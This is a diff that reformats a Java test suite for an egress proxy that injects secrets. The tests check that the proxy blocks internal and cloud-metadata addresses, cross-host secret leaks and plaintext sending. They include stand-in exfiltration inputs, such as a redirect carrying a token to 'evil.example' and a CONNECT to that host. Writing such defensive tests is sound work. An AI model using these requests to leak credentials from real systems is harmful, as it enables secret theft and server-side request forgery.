@@ -68,14 +68,27 @@ class PitfallsTest {
 
     /** (1) Of a name that leads to a closed address nothing is dialled. */
     @ParameterizedTest
-    @ValueSource(strings = {"127.0.0.1", "127.0.0.53", "10.0.0.1", "169.254.169.254", "192.168.1.1", "100.64.0.1", "::1", "fe80::1",
-            "64:ff9b::127.0.0.1", "2002:7f00:1::1", "0.0.0.0"})
+    @ValueSource(
+            strings = {
+                "127.0.0.1",
+                "127.0.0.53",
+                "10.0.0.1",
+                "169.254.169.254",
+                "192.168.1.1",
+                "100.64.0.1",
+                "::1",
+                "fe80::1",
+                "64:ff9b::127.0.0.1",
+                "2002:7f00:1::1",
+                "0.0.0.0"
+            })
     void shouldDialNoClosedAddressWhenAnAllowedNameLeadsThere(String address) throws Exception {
         egress.names.put("a.example", List.of(InetAddress.getByName(address)));
         try (TestServer server = egress.plain(TestServer.answering("inside"));
                 TestClient client = egress.client(worker(server.port(), ""))) {
             Answer answer = client.send("GET http://a.example:" + server.port() + "/ HTTP/1.1\r\nHost: a.example:"
-                    + server.port() + "\r\n\r\n").answer();
+                            + server.port() + "\r\n\r\n")
+                    .answer();
             assertEquals(403, answer.status());
             assertTrue(answer.body().contains("which allowedHosts does not name"), answer.body());
             assertTrue(server.requests().isEmpty());
@@ -86,11 +99,16 @@ class PitfallsTest {
     @Test
     void shouldDialNoAddressOfThisHost() throws Exception {
         List<InetAddress> own = NetworkInterface.networkInterfaces()
-                .flatMap(one -> one.inetAddresses()).toList();
+                .flatMap(one -> one.inetAddresses())
+                .toList();
         for (InetAddress address : own) {
             egress.names.put("a.example", List.of(address));
             try (TestClient client = egress.client(worker(80, ""))) {
-                assertEquals(403, client.send("GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n").answer().status());
+                assertEquals(
+                        403,
+                        client.send("GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n")
+                                .answer()
+                                .status());
             }
         }
     }
@@ -98,8 +116,10 @@ class PitfallsTest {
     /** (1) Scenario: the name server answers with a good address first, and with another one to whoever asks again. */
     @Test
     void shouldResolveOnceAndDialWhatWasJudged() throws Exception {
-        try (TestServer server = egress.plain(TestServer.answering("hello")); TestClient client = egress.client(worker(server))) {
-            client.send("GET http://a.example:" + server.port() + "/ HTTP/1.1\r\nHost: a.example:" + server.port() + "\r\n\r\n");
+        try (TestServer server = egress.plain(TestServer.answering("hello"));
+                TestClient client = egress.client(worker(server))) {
+            client.send("GET http://a.example:" + server.port() + "/ HTTP/1.1\r\nHost: a.example:" + server.port()
+                    + "\r\n\r\n");
             assertEquals(200, client.answer().status());
             assertEquals(List.of("a.example"), egress.resolved);
         }
@@ -113,7 +133,8 @@ class PitfallsTest {
                 TestServer closed = new TestServer(null, TestServer.answering("closed"));
                 TestClient client = egress.client(worker(server))) {
             Answer answer = client.send("GET http://a.example:" + server.port() + "/ HTTP/1.1\r\nHost: a.example:"
-                    + server.port() + "\r\n\r\n").answer();
+                            + server.port() + "\r\n\r\n")
+                    .answer();
             assertEquals("hello", answer.body());
             assertTrue(closed.requests().isEmpty());
         }
@@ -125,15 +146,28 @@ class PitfallsTest {
         try (TestServer server = egress.tls("a.example", TestServer.answering("hello"))) {
             Worker worker = worker(server);
             try (TestClient client = tls(worker, server, "a.example")) {
-                assertEquals(403, client.send(get("b.example", server.port(), "/", "")).answer().status());
-                assertEquals(200, client.send(get("a.example", server.port(), "/", "")).answer().status());
-                assertEquals(403, client.send(get("a.example", server.port() + 1, "/", "")).answer().status());
+                assertEquals(
+                        403,
+                        client.send(get("b.example", server.port(), "/", ""))
+                                .answer()
+                                .status());
+                assertEquals(
+                        200,
+                        client.send(get("a.example", server.port(), "/", ""))
+                                .answer()
+                                .status());
+                assertEquals(
+                        403,
+                        client.send(get("a.example", server.port() + 1, "/", ""))
+                                .answer()
+                                .status());
             }
             try (TestClient client = egress.client(worker).connect("a.example:" + server.port())) {
                 assertThrows(IOException.class, () -> client.tls(egress.trust(), "b.example"));
             }
             try (TestClient client = egress.client(worker)) {
-                String request = "GET http://a.example:" + server.port() + "/ HTTP/1.1\r\nHost: b.example:" + server.port() + "\r\n\r\n";
+                String request = "GET http://a.example:" + server.port() + "/ HTTP/1.1\r\nHost: b.example:"
+                        + server.port() + "\r\n\r\n";
                 assertEquals(403, client.send(request).answer().status());
             }
             assertEquals(1, server.requests().size());
@@ -146,18 +180,30 @@ class PitfallsTest {
         AtomicInteger asked = new AtomicInteger();
         try (TestServer server = egress.tls("a.example", (request, out) -> {
             asked.incrementAndGet();
-            TestServer.write(out, "HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t=" + VALUE + "\r\nContent-Length: 0\r\n\r\n");
+            TestServer.write(
+                    out,
+                    "HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t=" + VALUE
+                            + "\r\nContent-Length: 0\r\n\r\n");
         })) {
             Worker worker = worker(server);
             try (TestClient client = tls(worker, server, "a.example")) {
-                Answer answer = client.send(get("a.example", server.port(), "/",
-                        "Authorization: Bearer " + worker.placeholders().get("TOKEN") + "\r\n")).answer();
+                Answer answer = client.send(get(
+                                "a.example",
+                                server.port(),
+                                "/",
+                                "Authorization: Bearer " + worker.placeholders().get("TOKEN") + "\r\n"))
+                        .answer();
                 assertEquals(302, answer.status());
-                assertEquals("https://evil.example/?t=" + worker.placeholders().get("TOKEN"), answer.header("location"));
+                assertEquals(
+                        "https://evil.example/?t=" + worker.placeholders().get("TOKEN"), answer.header("location"));
                 assertEquals(1, asked.get());
             }
             try (TestClient client = egress.client(worker)) {
-                assertEquals(403, client.send("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n").answer().status());
+                assertEquals(
+                        403,
+                        client.send("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
+                                .answer()
+                                .status());
             }
             assertFalse(egress.resolved.contains("evil.example"));
         }
@@ -169,9 +215,15 @@ class PitfallsTest {
         try (TestServer server = egress.tls("a.example", TestServer.answering("ok"))) {
             Worker worker = worker(server);
             try (TestClient client = tls(worker, server, "a.example")) {
-                String inside = Base64.getEncoder().encodeToString(("git:" + worker.placeholders().get("TOKEN")).getBytes(UTF_8));
-                assertEquals(200, client.send(get("a.example", server.port(), "/", "Authorization: Basic " + inside + "\r\n")).answer().status());
-                String sent = server.requests().getFirst().header("authorization").substring(6);
+                String inside = Base64.getEncoder()
+                        .encodeToString(("git:" + worker.placeholders().get("TOKEN")).getBytes(UTF_8));
+                assertEquals(
+                        200,
+                        client.send(get("a.example", server.port(), "/", "Authorization: Basic " + inside + "\r\n"))
+                                .answer()
+                                .status());
+                String sent =
+                        server.requests().getFirst().header("authorization").substring(6);
                 assertEquals("git:" + VALUE, new String(Base64.getDecoder().decode(sent), UTF_8));
             }
         }
@@ -184,8 +236,11 @@ class PitfallsTest {
             Worker worker = worker(server);
             String placeholder = worker.placeholders().get("TOKEN");
             try (TestClient client = tls(worker, server, "a.example")) {
-                client.send("POST / HTTP/1.1\r\nHost: a.example:" + server.port() + "\r\nTransfer-Encoding: chunked\r\n\r\n");
-                for (String piece : new String[] {"k=", placeholder.substring(0, 5), placeholder.substring(5, 40), placeholder.substring(40) + "&x"}) {
+                client.send("POST / HTTP/1.1\r\nHost: a.example:" + server.port()
+                        + "\r\nTransfer-Encoding: chunked\r\n\r\n");
+                for (String piece : new String[] {
+                    "k=", placeholder.substring(0, 5), placeholder.substring(5, 40), placeholder.substring(40) + "&x"
+                }) {
                     client.send(Integer.toHexString(piece.length()) + "\r\n" + piece + "\r\n");
                 }
                 assertEquals(200, client.send("0\r\n\r\n").answer().status());
@@ -200,11 +255,18 @@ class PitfallsTest {
         try (TestServer server = egress.tls("b.example", TestServer.answering("ok"))) {
             Worker worker = worker(server);
             try (TestClient client = tls(worker, server, "b.example")) {
-                Answer answer = client.send(get("b.example", server.port(), "/", "X: " + worker.placeholders().get("TOKEN") + "\r\n")).answer();
+                Answer answer = client.send(get(
+                                "b.example",
+                                server.port(),
+                                "/",
+                                "X: " + worker.placeholders().get("TOKEN") + "\r\n"))
+                        .answer();
                 assertEquals(403, answer.status());
                 assertTrue(answer.body().contains("the secret TOKEN may not go to this host"), answer.body());
                 assertTrue(server.requests().isEmpty());
-                assertEquals("the secret TOKEN may not go to this host", egress.event("blocked").get("rule"));
+                assertEquals(
+                        "the secret TOKEN may not go to this host",
+                        egress.event("blocked").get("rule"));
             }
         }
     }
@@ -212,13 +274,19 @@ class PitfallsTest {
     /** (7) A service that says what it was sent does not give the value away. */
     @Test
     void shouldTakeValuesOutOfAnEcho() throws Exception {
-        try (TestServer server = egress.tls("a.example", (request, out) -> TestServer.write(out,
-                "HTTP/1.1 200 OK\r\nX-Echo: " + request.header("x") + "\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nplant\r\n"
-                        + Integer.toHexString(VALUE.length() - 5) + "\r\n" + VALUE.substring(5) + "\r\n0\r\n\r\n"))) {
+        try (TestServer server = egress.tls(
+                "a.example",
+                (request, out) -> TestServer.write(
+                        out,
+                        "HTTP/1.1 200 OK\r\nX-Echo: " + request.header("x")
+                                + "\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nplant\r\n"
+                                + Integer.toHexString(VALUE.length() - 5) + "\r\n" + VALUE.substring(5)
+                                + "\r\n0\r\n\r\n"))) {
             Worker worker = worker(server);
             try (TestClient client = tls(worker, server, "a.example")) {
                 String placeholder = worker.placeholders().get("TOKEN");
-                Answer answer = client.send(get("a.example", server.port(), "/", "X: " + placeholder + "\r\n")).answer();
+                Answer answer = client.send(get("a.example", server.port(), "/", "X: " + placeholder + "\r\n"))
+                        .answer();
                 assertEquals(placeholder, answer.header("x-echo"));
                 assertEquals(placeholder, answer.body());
             }
@@ -228,12 +296,24 @@ class PitfallsTest {
     /** (8) Of a WebSocket the headers get secrets, and what follows is passed through. */
     @Test
     void shouldPutValuesIntoTheHeadersOfAWebSocket() throws Exception {
-        try (TestServer server = egress.tls("a.example", (request, out) -> TestServer.write(out,
-                "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: x\r\n\r\n"))) {
+        try (TestServer server = egress.tls(
+                "a.example",
+                (request, out) -> TestServer.write(
+                        out,
+                        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: x\r\n\r\n"))) {
             Worker worker = worker(server);
             try (TestClient client = tls(worker, server, "a.example")) {
-                assertEquals(101, client.send(get("a.example", server.port(), "/", "Connection: Upgrade\r\nUpgrade: websocket\r\n"
-                        + "Sec-WebSocket-Key: k\r\nAuthorization: Bearer " + worker.placeholders().get("TOKEN") + "\r\n")).answer().status());
+                assertEquals(
+                        101,
+                        client.send(get(
+                                        "a.example",
+                                        server.port(),
+                                        "/",
+                                        "Connection: Upgrade\r\nUpgrade: websocket\r\n"
+                                                + "Sec-WebSocket-Key: k\r\nAuthorization: Bearer "
+                                                + worker.placeholders().get("TOKEN") + "\r\n"))
+                                .answer()
+                                .status());
                 assertEquals("Bearer " + VALUE, server.requests().getFirst().header("authorization"));
             }
         }
@@ -247,7 +327,9 @@ class PitfallsTest {
             try (TestClient client = egress.client(worker).connect("a.example:" + server.port())) {
                 client.tls(egress.trust(), "a.example", "h2", "http/1.1");
                 assertEquals("http/1.1", ((SSLSocket) client.socket()).getApplicationProtocol());
-                assertEquals(400, client.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").answer().status());
+                assertEquals(
+                        400,
+                        client.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").answer().status());
             }
             assertTrue(server.requests().isEmpty());
         }
@@ -259,8 +341,10 @@ class PitfallsTest {
         try (TestServer server = egress.plain(TestServer.answering("ok"))) {
             Worker worker = worker(server);
             try (TestClient client = egress.client(worker)) {
-                Answer answer = client.send("GET http://a.example:" + server.port() + "/ HTTP/1.1\r\nHost: a.example:" + server.port()
-                        + "\r\nX: " + worker.placeholders().get("TOKEN") + "\r\n\r\n").answer();
+                Answer answer = client.send("GET http://a.example:" + server.port() + "/ HTTP/1.1\r\nHost: a.example:"
+                                + server.port() + "\r\nX: "
+                                + worker.placeholders().get("TOKEN") + "\r\n\r\n")
+                        .answer();
                 assertEquals(403, answer.status());
                 assertTrue(answer.body().contains("the secret TOKEN travels over TLS only"), answer.body());
                 assertTrue(server.requests().isEmpty());
@@ -276,13 +360,16 @@ class PitfallsTest {
             String placeholder = worker.placeholders().get("TOKEN");
             for (String path : List.of("/?k=" + placeholder, "/" + VALUE, "/" + VALUE + "?k=" + VALUE)) {
                 try (TestClient client = tls(worker, server, "a.example")) {
-                    Answer answer = client.send(get("a.example", server.port(), path, "")).answer();
+                    Answer answer = client.send(get("a.example", server.port(), path, ""))
+                            .answer();
                     assertFalse((answer.head() + answer.body()).contains(VALUE), answer.toString());
                 }
             }
             for (String host : List.of(VALUE + ".example", VALUE)) {
                 try (TestClient client = egress.client(worker)) {
-                    Answer answer = client.send("GET http://" + host + "/" + VALUE + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n").answer();
+                    Answer answer = client.send(
+                                    "GET http://" + host + "/" + VALUE + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n")
+                            .answer();
                     assertEquals(403, answer.status());
                     assertFalse(answer.body().contains(VALUE), answer.body());
                 }
